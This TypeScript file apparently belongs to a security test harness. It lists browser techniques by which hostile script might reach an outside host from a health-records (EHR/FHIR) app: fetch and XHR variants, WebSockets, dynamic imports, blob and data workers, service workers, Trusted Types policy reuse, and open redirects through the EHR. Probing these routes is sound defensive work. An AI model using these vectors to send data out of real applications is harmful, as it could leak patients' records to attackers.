import { call, make, part, type Vector } from './aim.ts';

const https = (host: string): string => `https://${host}/`;

/** A worker's whole body: fetches, and opens a socket. */
const BODY = (host: string): string =>
  `fetch('${https(host)}',{mode:'no-cors'}).catch(()=>{});try{new WebSocket('wss://${host}/')}catch{}`;

/** What documents and workers can both try. */
export const ANYWHERE: readonly Vector[] = [
  { name: 'fetch', api: 'fetch', attempt: ({ host }) => fetch(https(host)) },
  {
    name: 'fetch-no-cors',
    api: 'fetch, mode no-cors, with credentials',
    attempt: ({ host }) =>
      fetch(https(host), { mode: 'no-cors', credentials: 'include', method: 'POST', body: 'x' }),
  },
  {
    name: 'fetch-keepalive',
    api: 'fetch, keepalive',
    attempt: ({ host }) => fetch(https(host), { keepalive: true, mode: 'no-cors' }),
  },
  {
    name: 'fetch-plain-http',
    api: 'fetch of http',
    attempt: ({ host }) => fetch(`http://${host}/`, { mode: 'no-cors' }),
  },
  {
    name: 'fetch-address',
    api: 'fetch of an IP address',
    attempt: ({ ip }) => fetch(`http://${ip}/`, { mode: 'no-cors' }),
  },
  {
    name: 'xhr',
    api: 'XMLHttpRequest',
    attempt: ({ host }) => {
      const request = new XMLHttpRequest();
      request.open('GET', https(host));
      request.send();
    },
  },
  { name: 'websocket', api: 'WebSocket', attempt: ({ host }) => new WebSocket(`wss://${host}/`) },
  {
    name: 'websocket-stream',
    api: 'WebSocketStream',
    attempt: ({ host }) => part(make('WebSocketStream', `wss://${host}/`) ?? {}, 'opened'),
  },
  { name: 'event-source', api: 'EventSource', attempt: ({ host }) => new EventSource(https(host)) },
  {
    name: 'web-transport',
    api: 'WebTransport',
    attempt: ({ host }) => part(make('WebTransport', `https://${host}:443/`) ?? {}, 'ready'),
  },
  {
    name: 'dynamic-import',
    api: 'import()',
    attempt: ({ host }) => import(/* @vite-ignore */ `${https(host)}x.js`),
  },
  {
    name: 'dynamic-import-json',
    api: 'import() with type json',
    attempt: ({ host }) =>
      import(/* @vite-ignore */ `${https(host)}x.json`, { with: { type: 'json' } }),
  },
  {
    name: 'dynamic-import-data',
    api: 'import() of a data: module that imports',
    attempt: ({ host }) =>
      import(/* @vite-ignore */ `data:text/javascript,import '${https(host)}x.js'`),
  },
  {
    name: 'font-face',
    api: 'FontFace',
    attempt: ({ host }) => new FontFace('x', `url(${https(host)}x.woff2)`).load(),
  },
  {
    name: 'cache-add',
    api: 'Cache.add',
    attempt: async ({ host }) => (await caches.open('x')).add(https(host)),
  },
  {
    name: 'wasm-streaming',
    api: 'WebAssembly.compileStreaming',
    attempt: ({ host }) => WebAssembly.compileStreaming(fetch(`${https(host)}x.wasm`)),
  },
  {
    name: 'worker-blob',
    api: 'Worker of a blob:',
    attempt: ({ host }) => new Worker(blobOf(BODY(host))),
  },
  {
    name: 'worker-data',
    api: 'Worker of a data:',
    attempt: ({ host }) =>
      new Worker(address(`data:text/javascript,${encodeURIComponent(BODY(host))}`)),
  },
  {
    name: 'worker-own-script',
    api: 'Worker of the app’s own script, told to fetch',
    attempt: ({ host, own }) => {
      tell(own, { fetch: https(host) });
    },
  },
  {
    name: 'worker-own-script-socket',
    api: 'the same, told to open a WebSocket',
    attempt: ({ host, own }) => {
      tell(own, { socket: `wss://${host}/` });
    },
  },
  {
    name: 'worker-own-script-blob',
    api: 'the same, told to start a blob: worker that fetches',
    attempt: ({ host, own }) => {
      tell(own, { blob: BODY(host) });
    },
  },
  {
    name: 'redirect-by-ehr',
    api: 'fetch of the EHR, which redirects',
    attempt: ({ host, ehr }) => fetch(`${ehr}/fhir/away?to=${https(host)}`, { mode: 'no-cors' }),
  },
  {
    name: 'redirect-by-own-host',
    api: 'fetch of the own host, which redirects',
    attempt: ({ host, own }) => fetch(`${own}away?to=${https(host)}`, { mode: 'no-cors' }),
  },
  {
    name: 'redirect-by-ehr-to-other-path',
    api: 'fetch of the EHR, which redirects outside its FHIR base',
    attempt: ({ ehr, label }) =>
      fetch(`${ehr}/fhir/away?to=${ehr}/other/${label}`, { mode: 'no-cors' }),
  },
  {
    name: 'ehr-other-path',
    api: 'fetch of the EHR’s host outside its FHIR base',
    attempt: ({ ehr, label }) => fetch(`${ehr}/other/${label}`, { mode: 'no-cors' }),
  },
  {
    name: 'ehr-other-base',
    api: 'fetch of a FHIR base that begins the same',
    attempt: ({ ehr, label }) => fetch(`${ehr}/fhir2/${label}`, { mode: 'no-cors' }),
  },
  {
    name: 'ehr-other-port',
    api: 'fetch of the EHR’s host on another port',
    attempt: ({ ip }) => fetch(`http://${ip}:8080/`, { mode: 'no-cors' }),
  },
  {
    name: 'service-worker',
    api: 'a service worker of the app’s own script, told to fetch',
    attempt: async ({ host, own }) => {
      const address_ = address(`${own}assets/hostile-worker.js?service`);
      const found = await navigator.serviceWorker.register(address_, { scope: `${own}assets/` });
      const worker = found.installing ?? found.waiting ?? found.active;
      worker?.postMessage({ fetch: https(host) });
    },
  },
];

/** What only a worker can try. */
export const WORKER_ONLY: readonly Vector[] = [
  {
    name: 'import-scripts',
    api: 'importScripts',
    attempt: ({ host }) => {
      importScriptsOf(`${https(host)}x.js`);
    },
  },
  {
    name: 'worker-own-host',
    api: 'fetch of the app’s own host, with what was read',
    attempt: ({ own, label }) => fetch(`${own}taken/${label}`),
  },
  {
    name: 'xhr-sync',
    api: 'XMLHttpRequest, synchronous',
    attempt: ({ host }) => {
      const request = new XMLHttpRequest();
      request.open('GET', https(host), false);
      request.send();
    },
  },
];

function importScriptsOf(url: string): void {
  call(globalThis, 'importScripts', url);
}

/** Lets an address through Trusted Types where the page’s one policy can be made; hostile code can make it as well as ours. */
export function address(url: string): string {
  const policy: unknown = Reflect.get(globalThis, 'hostilePolicy');
  if (typeof policy !== 'object' || policy === null) return url;
  const made: unknown = call(policy, 'createScriptURL', url);
  return asIs(made);
}

/** The same for markup. */
export function markup(html: string): string {
  const policy: unknown = Reflect.get(globalThis, 'hostilePolicy');
  if (typeof policy !== 'object' || policy === null) return html;
  return asIs(call(policy, 'createHTML', html));
}

/** A trusted value stands where the types say string, and must not become one on the way. */
function asIs(value: unknown): string {
  const held: { value: string } = { value: '' };
  Reflect.set(held, 'value', value);
  return held.value;
}

function blobOf(body: string): string {
  return address(URL.createObjectURL(new Blob([body], { type: 'text/javascript' })));
}

function tell(own: string, order: unknown): void {
  new Worker(address(`${own}assets/hostile-worker.js`)).postMessage(order);
}
